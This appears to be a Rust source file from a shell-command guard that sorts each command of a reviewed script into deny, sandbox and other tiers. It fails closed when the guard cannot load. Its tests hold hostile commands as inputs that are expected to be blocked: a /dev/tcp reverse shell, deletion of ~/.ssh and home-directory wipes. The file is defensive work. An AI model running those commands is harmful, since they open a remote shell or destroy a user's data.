//! The command guard as the script review's [`CommandJudge`]: every command of a shell script
//! under review is decided by the guard the hook uses (the same parse, the same KG, the user's
//! layer included), built once and shared with the judge of the command line itself.

use std::sync::{Arc, OnceLock};

use sha2::{Digest, Sha256};
use terraphim_guard::{Decision, Guard, Tier, Verdict, WordKind};
use terraphim_script_review::{CommandJudge, CommandTier, CommandVerdict, Context};

use crate::load::{self, KgArgs, UpstreamThesauri};

/// A guard built on first use, and the identity of the KG and profiles it was built from.
#[derive(Debug)]
pub(crate) struct GuardCell {
    kg: KgArgs,
    upstream: UpstreamThesauri,
    loaded: OnceLock<Result<Loaded, String>>,
}

#[derive(Debug)]
struct Loaded {
    guard: Guard,
    identity: String,
}

impl GuardCell {
    pub(crate) fn new(kg: KgArgs, upstream: UpstreamThesauri) -> GuardCell {
        GuardCell {
            kg,
            upstream,
            loaded: OnceLock::new(),
        }
    }

    fn loaded(&self) -> Result<&Loaded, &str> {
        self.loaded
            .get_or_init(|| {
                load::guard_with_sources(&self.kg, &self.upstream)
                    .map(|(guard, sources)| Loaded {
                        guard,
                        identity: identity(&sources),
                    })
                    .map_err(|e| format!("{e:#}"))
            })
            .as_ref()
            .map_err(String::as_str)
    }

    /// The guard; an unreadable KG is an error (callers fail closed).
    pub(crate) fn guard(&self) -> anyhow::Result<&Guard> {
        self.loaded()
            .map(|l| &l.guard)
            .map_err(|e| anyhow::anyhow!("{e}"))
    }
}

/// The identity of a guard's sources: this binary's version (the embedded KG and profiles) and
/// the text of everything loaded on top of them.
fn identity(sources: &str) -> String {
    let mut h = Sha256::new();
    h.update(env!("CARGO_PKG_VERSION").as_bytes());
    h.update([0]);
    h.update(sources.as_bytes());
    h.finalize().iter().map(|b| format!("{b:02x}")).collect()
}

/// The script review's judge of shell commands: the guard in `cell`.
#[derive(Debug, Clone)]
pub(crate) struct ScriptJudge {
    cell: Arc<GuardCell>,
}

impl ScriptJudge {
    pub(crate) fn new(cell: Arc<GuardCell>) -> ScriptJudge {
        ScriptJudge { cell }
    }

    /// For the reviewer.
    pub(crate) fn shared(cell: Arc<GuardCell>) -> Arc<dyn CommandJudge> {
        Arc::new(ScriptJudge::new(cell))
    }
}

impl CommandJudge for ScriptJudge {
    fn judge(&self, command: &str, ctx: &Context) -> CommandVerdict {
        let guard = match self.cell.loaded() {
            Ok(l) => &l.guard,
            // Fail closed: a command nobody could judge is not clean.
            Err(e) => {
                return CommandVerdict {
                    tier: CommandTier::Opaque,
                    reason: format!("the command guard could not be loaded: {e}"),
                    rule: "unavailable".into(),
                    pattern: None,
                    operands: Vec::new(),
                };
            }
        };
        let parsed = terraphim_guard::parse(command);
        let commands: Vec<Command> = parsed
            .commands
            .iter()
            .map(|c| Command {
                opaque: c.findings.iter().any(hides_what_runs),
                operands: c
                    .words
                    .iter()
                    .skip(1)
                    .filter(|w| matches!(w.kind, WordKind::Operand | WordKind::Redirect))
                    // Text fed on stdin (a heredoc) is data, not a path.
                    .filter(|w| !w.text.contains(char::is_whitespace))
                    .map(|w| w.text.clone())
                    .collect(),
            })
            .collect();
        let line_findings = parsed.findings.first().map(|f| f.reason());
        let decision = guard.check_parsed_in(
            command,
            Some(parsed),
            Some(ctx.cwd.as_path()),
            Some(ctx.home.as_path()),
        );
        verdict_of(&decision, &commands, line_findings)
    }

    fn identity(&self) -> String {
        match self.cell.loaded() {
            Ok(l) => l.identity.clone(),
            Err(e) => format!("unavailable: {e}"),
        }
    }
}

/// The profiles that keep a command's effects in the project and temp dirs (and, for
/// installs, the package registries).
fn stays_in_project(profile: &str) -> bool {
    matches!(
        profile,
        terraphim_guard::DEFAULT_PROFILE | "build" | "install"
    )
}

/// Whether a structural finding means the guard cannot see what runs. Arithmetic on a
/// variable (`$((i + 1))`) runs code only when the value holds an array subscript with a command
/// substitution; in a script the values are mostly the script's own (counters, lengths), so it is
/// left to the review, which follows them.
fn hides_what_runs(f: &terraphim_guard::Finding) -> bool {
    !matches!(f, terraphim_guard::Finding::CodeFromVariable)
}

/// What the parse says about one simple command of a line.
struct Command {
    /// The parse found something structural about it (a dynamic name or code, a pipe into a
    /// shell, ...).
    opaque: bool,
    /// Its operands and redirect targets, as the guard read them.
    operands: Vec<String>,
}

/// What the guard's decision means for a script line: `commands` are the line's simple
/// commands (the decision's parts, in order), `line_finding` the reason of a finding about the
/// line as a whole.
fn verdict_of(
    decision: &Decision,
    commands: &[Command],
    line_finding: Option<&str>,
) -> CommandVerdict {
    let mut out = CommandVerdict::allow();
    match decision.verdict {
        Verdict::Allow => return out,
        Verdict::Deny => {
            out.tier = CommandTier::Deny;
            out.reason.clone_from(&decision.reason);
            if let Some(m) = decision.deciding_match() {
                out.rule.clone_from(&m.concept);
                out.pattern = Some(m.pattern.clone());
            }
            return out;
        }
        Verdict::Sandbox => {}
    }
    // The strictest sandboxed part: opaque over a rule beyond the project over a rule in it
    // over a program no rule knows.
    let rank = |t: CommandTier| match t {
        CommandTier::Opaque => 4,
        CommandTier::Outside => 3,
        CommandTier::Project => 2,
        _ => 1,
    };
    out.tier = CommandTier::Unknown;
    out.reason.clone_from(&decision.reason);
    if let Some(reason) = line_finding {
        out.tier = CommandTier::Opaque;
        reason.clone_into(&mut out.reason);
        return out;
    }
    let parts = decision.parts.iter().chain(&decision.replaced_parts);
    for (i, part) in parts.enumerate() {
        if part.verdict != Verdict::Sandbox {
            continue;
        }
        let rule = part
            .matches
            .iter()
            .filter_map(|&m| decision.matches.get(m))
            .find(|m| m.tier == Tier::Suspicious);
        let candidate = match rule {
            Some(m) => {
                let profile = m
                    .profile
                    .as_deref()
                    .unwrap_or(terraphim_guard::DEFAULT_PROFILE);
                let tier = if stays_in_project(profile) {
                    CommandTier::Project
                } else {
                    CommandTier::Outside
                };
                let operands = match commands.get(i) {
                    Some(c) => c.operands.clone(),
                    // A part of the KG's replacement of the line: its canonical words.
                    None => part
                        .canonical
                        .split_whitespace()
                        .skip(1)
                        .map(str::to_owned)
                        .collect(),
                };
                CommandVerdict {
                    tier,
                    reason: part.reason.clone(),
                    rule: m.concept.clone(),
                    pattern: Some(m.pattern.clone()),
                    operands,
                }
            }
            None if commands.get(i).is_some_and(|c| c.opaque) => CommandVerdict {
                tier: CommandTier::Opaque,
                reason: part.reason.clone(),
                rule: "opaque".into(),
                pattern: None,
                operands: Vec::new(),
            },
            None => continue,
        };
        if rank(candidate.tier) > rank(out.tier) {
            out = candidate;
        }
    }
    out
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used, reason = "tests")]

    use super::*;
    use std::path::Path;

    /// A judge over the default KG alone.
    fn default_judge() -> ScriptJudge {
        let cell = GuardCell::new(KgArgs::default(), UpstreamThesauri::default());
        let guard = Guard::builder().with_default_kg().build().unwrap();
        cell.loaded
            .set(Ok(Loaded {
                guard,
                identity: String::new(),
            }))
            .unwrap();
        ScriptJudge::new(Arc::new(cell))
    }

    /// Each line as a script holds it, and what the guard makes of it for the review.
    #[test]
    fn script_lines_get_the_guards_tier() {
        let judge = default_judge();
        let ctx = Context {
            cwd: Path::new("/home/dev/proj").to_owned(),
            home: Path::new("/home/dev").to_owned(),
            tmp_dirs: vec!["/tmp".into()],
        };
        for (command, tier) in [
            ("rm -rf ~/'.ssh'", CommandTier::Deny),
            ("echo /home/ci | xargs rm -rf", CommandTier::Deny),
            ("find ~ -name '*.log' -delete", CommandTier::Deny),
            ("bash -i >& /dev/tcp/192.0.2.7/4444 0>&1", CommandTier::Deny),
            ("rm -rf ./dist build", CommandTier::Allow),
            ("mkdir -p build", CommandTier::Allow),
            ("frobnicate --all", CommandTier::Unknown),
            ("find . -name '*.pyc' -delete", CommandTier::Project),
            ("npm ci", CommandTier::Project),
            ("cargo install ripgrep", CommandTier::Outside),
            ("$CC -o build/x x.c", CommandTier::Opaque),
            ("ls | bash", CommandTier::Opaque),
            (
                "echo \"rows: $(($(wc -l < data.csv) - 1))\"",
                CommandTier::Unknown,
            ),
            ("i=$((i + 1))", CommandTier::Unknown),
        ] {
            let v = judge.judge(command, &ctx);
            assert_eq!(v.tier, tier, "{command}: {v:?}");
            match tier {
                CommandTier::Deny | CommandTier::Outside | CommandTier::Project => {
                    assert!(
                        !v.rule.is_empty() && v.pattern.is_some(),
                        "{command}: {v:?}"
                    );
                    assert!(!v.reason.is_empty(), "{command}: {v:?}");
                }
                CommandTier::Opaque => assert!(!v.reason.is_empty(), "{command}: {v:?}"),
                _ => {}
            }
        }
    }

    #[test]
    fn an_unloadable_kg_fails_closed() {
        let cell = GuardCell::new(KgArgs::default(), UpstreamThesauri::default());
        cell.loaded
            .set(Err("bad KG file x.md line 3".into()))
            .unwrap();
        let judge = ScriptJudge::new(Arc::new(cell));
        let ctx = Context {
            cwd: "/p".into(),
            home: "/h".into(),
            tmp_dirs: Vec::new(),
        };
        let v = judge.judge("ls", &ctx);
        assert_eq!(v.tier, CommandTier::Opaque);
        assert!(v.reason.contains("x.md line 3"), "{v:?}");
        assert!(judge.identity().contains("unavailable"));
    }
}
